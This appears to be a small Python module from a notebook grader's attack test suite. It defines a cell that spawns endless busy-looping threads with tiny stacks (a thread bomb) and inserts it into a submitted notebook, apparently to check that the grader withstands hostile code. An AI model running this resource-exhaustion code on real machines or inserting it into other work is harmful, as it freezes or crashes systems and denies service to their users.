"""Starts threads with tiny stacks until it cannot, all of them busy."""

from grader.attacks import insert

STOCK = "not run: a thread bomb would harm the machine"


def cell():
    import threading

    def busy():
        while True:
            pass

    threading.stack_size(32_768)
    while True:
        threading.Thread(target=busy, daemon=True).start()


def attack(nb, folder):
    insert(nb, cell)
